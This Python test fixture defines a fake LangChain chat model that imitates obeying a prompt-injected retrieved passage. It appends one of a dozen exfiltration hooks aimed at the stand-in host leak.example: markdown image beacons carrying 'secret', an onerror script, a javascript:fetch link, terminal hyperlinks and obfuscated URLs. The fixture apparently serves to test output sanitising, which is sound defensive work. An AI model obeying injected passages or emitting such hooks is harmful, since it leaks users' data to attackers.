"""A chat model that obeys a hostile passage, and hangs everything that could act on an honest sentence."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

from langchain_core.language_models import BaseChatModel
from langchain_core.messages import AIMessage, AIMessageChunk, BaseMessage
from langchain_core.outputs import ChatGeneration, ChatGenerationChunk, ChatResult

LEAK = "leak.example"
"""The host that the model names of its own; no document does."""
_TITLE = re.compile(r'<passage n="(\d+)" title="([^"]*)"')
HOOKS = (
    f"![chart](https://{LEAK}/c.png?d=secret)",
    f"[more](https://{LEAK}/p?q=secret 'title')",
    f"<img src=https://{LEAK}/i.gif onerror=alert(1)>",
    f"https://{LEAK}/bare?q=secret",
    f"[x][y] [y]: https://{LEAK}/reference",
    f"<https://{LEAK}/auto>",
    f"<a href='javascript:fetch(`//{LEAK}`)'>terms</a>",
    f"\x1b]8;;https://{LEAK}/osc\x1b\\terms\x1b]8;;\x1b\\",
    f"![a]\n(data:image/svg+xml;base64,PHN2Zz4={LEAK})",
    f'[a](<https://{LEAK}/angle> "t")',
    f"ht\u200btps://{LEAK}/split",
    f"[![b](https://{LEAK}/b.svg)](mailto:spy@{LEAK})",
)


class Obedient(BaseChatModel):
    """Says `says` with the number of the passage that orders it (titled Circular `circular`), then `honest`, and
    `honest` again with something live in it."""

    says: str
    honest: str
    circular: str

    @property
    def _llm_type(self) -> str:
        return "obedient"

    def _generate(self, messages: list[BaseMessage], *_: Any, **__: Any) -> ChatResult:
        return ChatResult(generations=[ChatGeneration(message=AIMessage(self._said(messages)))])

    def _stream(self, messages: list[BaseMessage], *_: Any, **__: Any) -> Iterator[ChatGenerationChunk]:
        text = self._said(messages)
        for at in range(0, len(text), 11):
            yield ChatGenerationChunk(message=AIMessageChunk(content=text[at : at + 11]))
        ending = {"finish_reason": "stop"}
        yield ChatGenerationChunk(message=AIMessageChunk(content="", response_metadata=ending))

    def _said(self, messages: list[BaseMessage]) -> str:
        shown = [(n, title) for n, title in _TITLE.findall(str(messages[-1].content))]
        own = next((n for n, title in shown if title == f"Circular {self.circular}"), "99")
        others = "".join(f"[{n}]" for n, title in shown if not title.startswith("Circular")) or "[1]"
        hook = HOOKS[sum(map(ord, self.circular)) % len(HOOKS)]
        hooked = f"{self.honest[:-1]}, {hook}. {others}\nSee {hook} {others}\n"
        return f"{self.says} [{own}]\n{self.honest} {others}\n{hooked}"
